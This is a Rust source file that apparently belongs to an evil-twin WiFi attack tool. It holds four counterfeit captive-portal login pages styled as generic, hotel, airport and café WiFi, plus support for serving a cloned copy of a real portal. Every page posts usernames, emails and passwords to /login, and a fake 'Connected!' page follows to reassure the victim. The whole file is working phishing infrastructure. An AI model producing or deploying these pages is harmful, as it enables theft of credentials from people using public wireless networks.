//! Built-in portal pages
//!
//! Four self-contained login pages plus the post-submit confirmation page.
//! Every template posts to `/login` with `method="POST"`, the same contract
//! the clone pipeline enforces on downloaded pages.

use std::fmt;
use std::str::FromStr;

/// Which page the portal server hands out.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PortalVariant {
    Generic,
    Hotel,
    Airport,
    CoffeeShop,
    /// The stored clone; only selectable while a clone exists.
    Cloned,
}

impl PortalVariant {
    /// Compiled-in page for this variant. `Cloned` has no template; the
    /// caller substitutes the stored clone HTML.
    pub fn template(&self) -> Option<&'static str> {
        match self {
            PortalVariant::Generic => Some(GENERIC_PORTAL),
            PortalVariant::Hotel => Some(HOTEL_PORTAL),
            PortalVariant::Airport => Some(AIRPORT_PORTAL),
            PortalVariant::CoffeeShop => Some(COFFEE_PORTAL),
            PortalVariant::Cloned => None,
        }
    }
}

impl fmt::Display for PortalVariant {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            PortalVariant::Generic => "generic",
            PortalVariant::Hotel => "hotel",
            PortalVariant::Airport => "airport",
            PortalVariant::CoffeeShop => "coffee",
            PortalVariant::Cloned => "cloned",
        };
        f.write_str(name)
    }
}

impl FromStr for PortalVariant {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s.trim().to_ascii_lowercase().as_str() {
            "generic" | "1" => Ok(PortalVariant::Generic),
            "hotel" | "2" => Ok(PortalVariant::Hotel),
            "airport" | "3" => Ok(PortalVariant::Airport),
            "coffee" | "coffeeshop" | "4" => Ok(PortalVariant::CoffeeShop),
            "cloned" | "clone" | "5" => Ok(PortalVariant::Cloned),
            other => Err(format!("unknown portal variant: {other}")),
        }
    }
}

pub const GENERIC_PORTAL: &str = r#"<!DOCTYPE html>
<html>
<head>
    <meta charset="UTF-8">
    <meta name="viewport" content="width=device-width, initial-scale=1.0">
    <title>WiFi Login</title>
    <style>
        * { margin: 0; padding: 0; box-sizing: border-box; }
        body {
            font-family: -apple-system, BlinkMacSystemFont, 'Segoe UI', Roboto, sans-serif;
            background: linear-gradient(135deg, #667eea 0%, #764ba2 100%);
            display: flex; justify-content: center; align-items: center;
            min-height: 100vh; padding: 20px;
        }
        .login-container {
            background: white; padding: 40px; border-radius: 15px;
            box-shadow: 0 20px 60px rgba(0,0,0,0.3);
            max-width: 400px; width: 100%;
        }
        h1 { color: #333; margin-bottom: 10px; font-size: 28px; text-align: center; }
        p { color: #666; margin-bottom: 30px; text-align: center; }
        .form-group { margin-bottom: 20px; }
        label { display: block; color: #555; margin-bottom: 8px; font-weight: 500; }
        input {
            width: 100%; padding: 12px; border: 2px solid #e1e1e1;
            border-radius: 8px; font-size: 16px;
        }
        input:focus { outline: none; border-color: #667eea; }
        button {
            width: 100%; padding: 14px; color: white; border: none;
            background: linear-gradient(135deg, #667eea 0%, #764ba2 100%);
            border-radius: 8px; font-size: 16px; font-weight: 600; cursor: pointer;
        }
        .wifi-icon { font-size: 48px; text-align: center; margin-bottom: 20px; }
    </style>
</head>
<body>
    <div class="login-container">
        <div class="wifi-icon">&#128246;</div>
        <h1>WiFi Login</h1>
        <p>Enter your credentials to access the internet</p>
        <form action="/login" method="POST">
            <div class="form-group">
                <label>Email or Username</label>
                <input type="text" name="username" placeholder="Enter your email or username" required>
            </div>
            <div class="form-group">
                <label>Password</label>
                <input type="password" name="password" placeholder="Enter your password" required>
            </div>
            <button type="submit">Connect to WiFi</button>
        </form>
    </div>
</body>
</html>
"#;

pub const HOTEL_PORTAL: &str = r#"<!DOCTYPE html>
<html>
<head>
    <meta charset="UTF-8">
    <meta name="viewport" content="width=device-width, initial-scale=1.0">
    <title>Hotel WiFi</title>
    <style>
        * { margin: 0; padding: 0; box-sizing: border-box; }
        body {
            font-family: 'Georgia', serif;
            background: linear-gradient(135deg, #1e3c72 0%, #2a5298 100%);
            display: flex; justify-content: center; align-items: center;
            min-height: 100vh; padding: 20px;
        }
        .login-container {
            background: white; padding: 40px; border-radius: 10px;
            box-shadow: 0 20px 60px rgba(0,0,0,0.3);
            max-width: 450px; width: 100%;
        }
        .hotel-header {
            text-align: center; margin-bottom: 30px; padding-bottom: 20px;
            border-bottom: 2px solid #1e3c72;
        }
        h1 { color: #1e3c72; font-size: 32px; margin-bottom: 5px; }
        .subtitle { color: #666; font-style: italic; }
        .form-group { margin-bottom: 20px; }
        label { display: block; color: #555; margin-bottom: 8px; font-weight: 500; }
        input {
            width: 100%; padding: 12px; border: 2px solid #e1e1e1;
            border-radius: 5px; font-size: 16px;
        }
        input:focus { outline: none; border-color: #1e3c72; }
        button {
            width: 100%; padding: 14px; background: #1e3c72; color: white;
            border: none; border-radius: 5px; font-size: 16px; font-weight: 600;
            cursor: pointer;
        }
        button:hover { background: #2a5298; }
    </style>
</head>
<body>
    <div class="login-container">
        <div class="hotel-header">
            <h1>&#127976; Grand Hotel</h1>
            <p class="subtitle">Complimentary WiFi for Guests</p>
        </div>
        <form action="/login" method="POST">
            <div class="form-group">
                <label>Room Number / Email</label>
                <input type="text" name="username" placeholder="Enter room number or email" required>
            </div>
            <div class="form-group">
                <label>Last Name / Password</label>
                <input type="password" name="password" placeholder="Enter your last name or password" required>
            </div>
            <button type="submit">Access WiFi</button>
        </form>
    </div>
</body>
</html>
"#;

pub const AIRPORT_PORTAL: &str = r#"<!DOCTYPE html>
<html>
<head>
    <meta charset="UTF-8">
    <meta name="viewport" content="width=device-width, initial-scale=1.0">
    <title>Airport WiFi</title>
    <style>
        * { margin: 0; padding: 0; box-sizing: border-box; }
        body {
            font-family: Arial, sans-serif; background: #f5f5f5;
            display: flex; justify-content: center; align-items: center;
            min-height: 100vh; padding: 20px;
        }
        .login-container {
            background: white; padding: 40px; border-radius: 8px;
            box-shadow: 0 4px 20px rgba(0,0,0,0.1);
            max-width: 400px; width: 100%;
        }
        .airport-header { text-align: center; margin-bottom: 30px; }
        h1 { color: #0066cc; font-size: 28px; margin-bottom: 10px; }
        .form-group { margin-bottom: 20px; }
        label { display: block; color: #333; margin-bottom: 8px; font-weight: 600; }
        input {
            width: 100%; padding: 12px; border: 1px solid #ddd;
            border-radius: 4px; font-size: 16px;
        }
        button {
            width: 100%; padding: 14px; background: #0066cc; color: white;
            border: none; border-radius: 4px; font-size: 16px; font-weight: 600;
            cursor: pointer;
        }
        button:hover { background: #0052a3; }
        .info {
            margin-top: 20px; padding: 15px; background: #f0f8ff;
            border-left: 4px solid #0066cc; font-size: 14px; color: #666;
        }
    </style>
</head>
<body>
    <div class="login-container">
        <div class="airport-header">
            <h1>&#9992; Airport Free WiFi</h1>
            <p style="color: #666;">Connect to continue your journey</p>
        </div>
        <form action="/login" method="POST">
            <div class="form-group">
                <label>Email Address</label>
                <input type="email" name="email" placeholder="your@email.com" required>
            </div>
            <div class="form-group">
                <label>Password (if you have an account)</label>
                <input type="password" name="password" placeholder="Optional">
            </div>
            <button type="submit">Connect Now</button>
        </form>
        <div class="info">
            Free WiFi available for 2 hours. Please enter your email to continue.
        </div>
    </div>
</body>
</html>
"#;

pub const COFFEE_PORTAL: &str = r#"<!DOCTYPE html>
<html>
<head>
    <meta charset="UTF-8">
    <meta name="viewport" content="width=device-width, initial-scale=1.0">
    <title>Coffee Shop WiFi</title>
    <style>
        * { margin: 0; padding: 0; box-sizing: border-box; }
        body {
            font-family: 'Courier New', monospace; background: #3e2723;
            display: flex; justify-content: center; align-items: center;
            min-height: 100vh; padding: 20px;
        }
        .login-container {
            background: #fff8e1; padding: 40px; border-radius: 15px;
            box-shadow: 0 10px 40px rgba(0,0,0,0.3);
            max-width: 400px; width: 100%; border: 3px solid #6d4c41;
        }
        h1 { color: #3e2723; font-size: 32px; margin-bottom: 10px; text-align: center; }
        .coffee-icon { font-size: 48px; text-align: center; margin-bottom: 20px; }
        p { color: #5d4037; margin-bottom: 30px; text-align: center; }
        .form-group { margin-bottom: 20px; }
        label { display: block; color: #3e2723; margin-bottom: 8px; font-weight: bold; }
        input {
            width: 100%; padding: 12px; border: 2px solid #8d6e63;
            border-radius: 8px; font-size: 16px; background: white;
        }
        button {
            width: 100%; padding: 14px; background: #6d4c41; color: #fff8e1;
            border: none; border-radius: 8px; font-size: 16px; font-weight: bold;
            cursor: pointer;
        }
        button:hover { background: #5d4037; }
    </style>
</head>
<body>
    <div class="login-container">
        <div class="coffee-icon">&#9749;</div>
        <h1>Caf&eacute; WiFi</h1>
        <p>Free WiFi for our customers</p>
        <form action="/login" method="POST">
            <div class="form-group">
                <label>Email</label>
                <input type="email" name="email" placeholder="your@email.com" required>
            </div>
            <div class="form-group">
                <label>Name (Optional)</label>
                <input type="text" name="username" placeholder="Your name">
            </div>
            <button type="submit">Get Connected</button>
        </form>
    </div>
</body>
</html>
"#;

/// Served after any `/login` submission, whatever the fields contained.
pub const SUCCESS_PAGE: &str = r#"<!DOCTYPE html>
<html>
<head>
    <meta charset="UTF-8">
    <meta name="viewport" content="width=device-width, initial-scale=1.0">
    <title>Connected</title>
    <style>
        body {
            font-family: Arial, sans-serif;
            display: flex; justify-content: center; align-items: center;
            min-height: 100vh; margin: 0;
            background: linear-gradient(135deg, #667eea 0%, #764ba2 100%);
        }
        .success-box {
            background: white; padding: 40px; border-radius: 10px;
            box-shadow: 0 10px 40px rgba(0,0,0,0.2);
            text-align: center; max-width: 400px;
        }
        .checkmark {
            width: 80px; height: 80px; border-radius: 50%; display: block;
            stroke-width: 2; stroke: #4bb543; stroke-miterlimit: 10;
            margin: 10px auto;
        }
        h1 { color: #333; margin: 20px 0; }
        p { color: #666; line-height: 1.6; }
    </style>
</head>
<body>
    <div class="success-box">
        <svg class="checkmark" xmlns="http://www.w3.org/2000/svg" viewBox="0 0 52 52">
            <circle cx="26" cy="26" r="25" fill="none"/>
            <path fill="none" d="M14.1 27.2l7.1 7.2 16.7-16.8"/>
        </svg>
        <h1>Connected!</h1>
        <p>You are now connected to the internet.</p>
        <p style="font-size: 12px; color: #999; margin-top: 20px;">You can close this window.</p>
    </div>
    <script>
        setTimeout(function() {
            window.location.href = 'http://www.google.com';
        }, 3000);
    </script>
</body>
</html>
"#;
